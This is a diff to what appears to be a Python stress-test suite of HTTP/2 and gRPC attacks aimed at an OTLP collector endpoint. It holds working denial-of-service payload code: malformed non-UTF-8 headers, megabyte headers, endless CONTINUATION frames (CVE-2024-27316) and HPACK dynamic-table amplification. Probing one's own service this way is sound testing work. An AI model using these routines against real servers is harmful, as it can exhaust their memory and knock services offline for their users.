@@ -33,6 +33,7 @@ from attack.http2 import (
     block,
     frame,
     head,
+    literal,
     message,
     repeat,
     settings,
@@ -252,7 +253,9 @@ def paths_that_are_no_text(addresses: Addresses, budget: Budget) -> Outcome:
             for path in (b"/\xff\xfe/Export", b"\xff", b"/a\x00b", b"/\xc3\x28/x", b""):
                 peer = Peer(address)
                 peer.send(head(1, block(path), ends=True))
-                peer.pump(0.5)
+                end = time.monotonic() + budget.seconds()
+                while 1 not in peer.ended and not peer.closed and time.monotonic() < end:
+                    peer.pump(0.1)
                 outcome.answers["answered" if 1 in peer.ended else "not answered"] += 1
                 peer.close()
     return outcome
@@ -261,10 +264,11 @@ def paths_that_are_no_text(addresses: Addresses, budget: Budget) -> Outcome:
 @attack("grpc")
 def metadata_that_is_no_text(addresses: Addresses, budget: Budget) -> Outcome:
     """Values of headers that are no UTF-8, and of binary ones that are no base64."""
+    values = {"x-otel-threads-project": b"\xff\xfe", "authorization": b"\x80", "x-bin": b"*"}
+    headers = block() + b"".join(literal(name.encode(), text) for name, text in values.items())
 
     def one(stream_id: int) -> bytes:
-        values = {"x-otel-threads-project": b"\xff\xfe", "authorization": b"\x80", "x-bin": b"*"}
-        return head(stream_id, block(**values)) + frame(DATA, END_STREAM, stream_id, SMALL)
+        return head(stream_id, headers) + frame(DATA, END_STREAM, stream_id, SMALL)
 
     return each_connection(addresses.otlp_grpc, budget, one)
 
@@ -273,7 +277,7 @@ def metadata_that_is_no_text(addresses: Addresses, budget: Budget) -> Outcome:
 def headers_of_a_megabyte(addresses: Addresses, budget: Budget) -> Outcome:
     """One header of a megabyte in CONTINUATION frames, in each of many calls."""
     outcome = Outcome()
-    headers = block(x_long=b"x" * MIB)
+    headers = block() + literal(b"x-long", b"x" * MIB)
     parts = [headers[at : at + FRAME_BYTES_MAX] for at in range(0, len(headers), FRAME_BYTES_MAX)]
     while budget.left():
         peer = Peer(addresses.otlp_grpc)
@@ -294,27 +298,22 @@ def headers_of_a_megabyte(addresses: Addresses, budget: Budget) -> Outcome:
 @attack("grpc")
 def continuations_without_end(addresses: Addresses, budget: Budget) -> Outcome:
     """CONTINUATION frames that never end the headers (CVE-2024-27316)."""
-    part = b"\x00\x01a\x7f\x81\x7e" + b"b" * 16_000  # a literal of 16 kB
     chunk = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100) * 200
-    del part
     return repeat(addresses.otlp_grpc, budget, chunk, first=frame(HEADERS, 0, 1, block()))
 
 
 @attack("grpc")
 def headers_out_of_a_table(addresses: Addresses, budget: Budget) -> Outcome:
-    """One header of 4 kB, put into the table once and named a thousand times in each call."""
-    entry = b"\x40\x01a\x7f\x81\x1f" + b"b" * 4096
+    """One header of 4 kB, put into the table once and named 4,000 times in each call."""
 
     def one(stream_id: int) -> bytes:
-        # bf 80.. : indexed, the newest entry of the dynamic table
-        return head(stream_id, block() + entry[:0] + b"\xbe" * 4000)
+        return head(stream_id, headers + b"\xbe" * 4000)  # be: the newest entry of the table
 
     outcome = Outcome()
+    headers = block().removeprefix(b"\x20")  # which would set the size of the table to 0
     while budget.left():
         peer = Peer(addresses.otlp_grpc)
-        value = b"b" * 3900
-        length = b"\x7f" + bytes([(len(value) - 127) & 0x7F | 0x80, (len(value) - 127) >> 7])
-        first = block() + b"\x40\x01a" + length + value
+        first = headers + b"\x40" + literal(b"x-a", b"b" * 3900)[1:]  # 40: keep it in the table
         peer.send(head(1, first))
         for stream_id in range(3, 2000, 2):
             if not budget.left() or not peer.send(one(stream_id)):
